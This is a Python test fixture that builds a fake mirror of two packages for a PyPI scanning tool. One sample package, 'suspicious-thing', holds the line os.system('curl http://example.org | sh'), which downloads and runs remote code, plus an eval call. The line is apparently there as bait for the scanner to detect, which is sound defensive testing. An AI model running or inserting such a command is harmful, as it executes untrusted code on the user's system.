"""A mirror of two packages, as bandersnatch would have left it."""

import hashlib
import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

from pypi_scan.mirror import Mirror

UPLOADED = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
SOURCES = {
    "quiet-thing": "def add(a, b):\n    return a + b\n",
    "suspicious-thing": "import os\nos.system('curl http://example.org | sh')\neval(compile('1', '', 'eval'))\n",
}


def make(root: Path) -> Mirror:
    """Write the mirror below `root`."""
    (root / "web" / "json").mkdir(parents=True)
    (root / "status").write_text("7")
    for name, source in SOURCES.items():
        filename = f"{name.replace('-', '_')}-1.0-py3-none-any.whl"
        data = _wheel({f"{name.replace('-', '_')}.py": source})
        digest = hashlib.sha256(data).hexdigest()
        path = f"packages/{digest[:2]}/{digest[2:4]}/{digest[4:]}/{filename}"
        (root / "web" / path).parent.mkdir(parents=True)
        (root / "web" / path).write_bytes(data)
        file = {
            "filename": filename,
            "packagetype": "bdist_wheel",
            "url": f"https://files.example/{path}",
            "digests": {"sha256": digest},
            "size": len(data),
            "upload_time_iso_8601": UPLOADED.isoformat(),
        }
        document = {"info": {"name": name, "version": "1.0"}, "releases": {"1.0": [file]}, "last_serial": 7}
        (root / "web" / "json" / name).write_text(json.dumps(document))
    return Mirror(root)


def _wheel(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return buffer.getvalue()
